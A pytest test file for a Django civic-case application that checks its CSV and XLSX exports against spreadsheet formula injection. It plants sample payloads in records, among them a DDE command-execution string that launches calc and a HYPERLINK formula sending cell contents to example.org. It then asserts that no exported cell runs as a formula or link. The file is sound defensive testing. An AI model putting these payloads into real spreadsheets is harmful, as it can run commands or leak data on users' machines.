"""Every list that can be taken away, filled with words that a spreadsheet would run: in no cell of any file one does."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from huiyin.apps.cases.models import Case, CaseContent
from huiyin.apps.exchange.models import AskedField, AskedForm, Upload
from huiyin.apps.jobs.actions import run_due
from huiyin.apps.people.access import may_open
from huiyin.apps.people.models import Person
from huiyin.apps.people.security import note
from huiyin.apps.places.actions import add_place
from huiyin.apps.places.models import Place
from huiyin.apps.towns.actions import set_up_town
from huiyin.apps.units.models import Post, Unit
from huiyin.core.words import PlaceKind
from product import addresses
from tests.apps.exchange.books import text_file
from tests.apps.site.posts import someone
from tests.apps.site.test_matrix import post_of
from tests.builders import World, just_shown, say
from tests.exports import ask, fetch, rows_of

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite, pytest.mark.usefixtures("in_silence")]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("//example.org/"&A1,"看")'
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
FILES = re.compile(r"csv|/table/$|^d/import/.*/(copy|template|list)/$")
SENT = re.compile(
    r"^/d/(?:shift/|act/|cards/|postings/|teams/|tasks/|decisions/)?list\.|^/d/(?:lists|figures|forms|net)/|^/duty/|^/m/|^/p/|^/admin/log/table/"
)
"""What is asked for by a button and made by a job."""
TABS = "hand all parked calls tell messages late came up".split()
BY = {
    "admin/log/table/": "auditor", "d/import/": "clerk", "^d/decisions/": "secretary", "^m/hard/": "leader",
    "^d/net/": "secretary", "d/forms/": "secretary",
}  # fmt: skip


@pytest.fixture
def filled_in(world: World) -> Case:
    """A world in which every word that people can write begins like a formula."""
    case = say(world, text=FORMULA, title=FORMULA, spot="+cmd|' /C calc'!A0", name="@SUM(A1)", phone="13800000000")
    wish = say(world, text=f"{FORMULA}二", title="\t=1+1", spot="-2+3", name="＝1+1")
    run_due(timezone.now())
    Case.objects.filter(pk=case.pk).update(public_title="@SUM(1+1)*cmd", published_at=timezone.now())
    assert wish.pk
    assert CaseContent.objects.count() == 2
    _with_a_wall(world)
    asked = AskedForm.objects.create(
        place=world.town, title=FORMULA, rows="village", why="=1", registered_at=timezone.now()
    )
    AskedField.objects.create(form=asked, number=1, title=FORMULA)
    Person.objects.create(name="=1+2", code="@1")
    note("person_added", timezone.now(), person=Person.objects.get(code="@1").pk, data={"why": FORMULA})
    for model in (Post, Unit):
        for row in model.objects.filter(pk__in=[*model.objects.values_list("pk", flat=True)[:400]]):
            model.objects.filter(pk=row.pk).update(name=f"={row.name}")
    Place.objects.filter(pk=world.grid.pk).update(name="+第一网格")
    return case


def _with_a_wall(world: World) -> None:
    """A second town, whose talk is on the wall; the first one has no wall."""
    town = add_place(kind=PlaceKind.town, name="石桥镇", parent=world.county, code="990001101")
    village = add_place(kind=PlaceKind.village, name="石家村", parent=town, code="990001101201")
    set_up_town(town=town, slug="dalu")
    talk = say(world, slug="talk", category="irrigation", place=village, text=FORMULA, spot=FORMULA)
    Case.objects.filter(pk=talk.pk).update(public_title=FORMULA, published_at=timezone.now())


def cells(content: bytes, kind: str) -> list[str]:
    """What a spreadsheet would see in the file; fails where it has a formula or a link."""
    if kind == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    found = []
    for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} runs {cell.value}"
                assert cell.hyperlink is None, cell.coordinate
                found.append("" if cell.data_type == "s" else str(cell.value or ""))
    return found


def exports(world: World, browser: Any) -> dict[str, list[str]]:
    """Every address whose answer is a file with rows, as its links ask for it."""
    found: dict[str, list[str]] = {}
    for pattern, _ in addresses():
        if not FILES.search(pattern):
            continue
        plain = pattern.strip("^$").replace("\\", "").replace("<slug:slug>", "places")
        known: Any = AskedForm if plain.startswith("d/forms/") else Upload
        plain = plain.replace("<uuid:uid>", str(known.objects.get().uid))
        plain = plain.replace("(?P<name>list|now)", "now").replace("(?P<slug>wish|talk)", "talk")
        plain = plain.replace("(?P<register>[a-z]+)", "venue")
        plain = plain.replace("(?P<slug>[a-z0-9_-]+)", "volunteering" if "figures" in plain else world.profile)
        forms = (
            [plain.replace("(?P<form>csv|xlsx|json)", form) for form in ("csv", "xlsx")] if "form" in plain else [plain]
        )
        town = Place.objects.get(profile="dalu") if plain.startswith("talk") else world.town
        queries = [f"tab={tab}&s=any" for tab in TABS] if plain.startswith("d/list") else [f"town={town.uid}"]
        found[pattern] = [f"/{form}?{query}" for form in forms for query in queries]
    return found


def test_no_cell_of_any_file_is_run(world: World, filled_in: Case, settings: Any) -> None:
    settings.EXPORTS_A_DAY = 500
    clerk = someone(post_of("clerk", world))
    rows = [
        ["户编号", "村", "门牌", "户主", "电话"],
        ["=1+1", "杏树湾村", FORMULA, "@SUM(A1)", "+86 138"],
        ["2", "", "", "", ""],
    ]
    clerk.post("/d/import/households/", {"file": SimpleUploadedFile("=户.csv", text_file(rows))})
    views, seen = dict(addresses()), 0
    browsers: dict[str, Client] = {"clerk": clerk, "": Client()}
    for pattern, asked in exports(world, clerk).items():
        view: Any = views[pattern]
        title = next((by for start, by in BY.items() if pattern.startswith(start)), "desk" if view.posts else "")
        assert not title or may_open(view, title)
        browser = browsers.setdefault(title, just_shown(someone(post_of(title, world))) if title != "clerk" else clerk)
        for path in asked:
            seen += _asked(browser, path)
    assert seen >= 24


def _asked(browser: Client, path: str) -> int:
    sent = bool(SENT.search(path))
    answer: Any = fetch(browser, ask(browser, path)) if sent else browser.get(path)
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    assert answer.status_code == 200, f"{path} answered {answer.status_code}"
    assert answer.get("Content-Disposition", "").startswith("attachment"), path
    assert "no-store" in answer["Cache-Control"], path
    kind = "csv" if answer["Content-Type"].startswith("text/csv") else "xlsx"
    run = [cell for cell in cells(content, kind) if cell.startswith(STARTS) and not NUMBER.fullmatch(cell)]
    assert [cell for cell in run if not re.fullmatch(r"[+-][\d ().,-]+", cell)] == [], path
    return 1


def test_the_words_are_there_all_the_same(world: World, filled_in: Case) -> None:
    desk = someone(post_of("desk", world))
    Case.objects.update(held_by_unit=None, held_by_post=None)
    leader = someone(post_of("leader", world))
    told = [rows_of(each, "/d/list.csv?tab=all&s=any") for each in (desk, leader)]
    assert "'=HYPERLINK" in "".join(told)
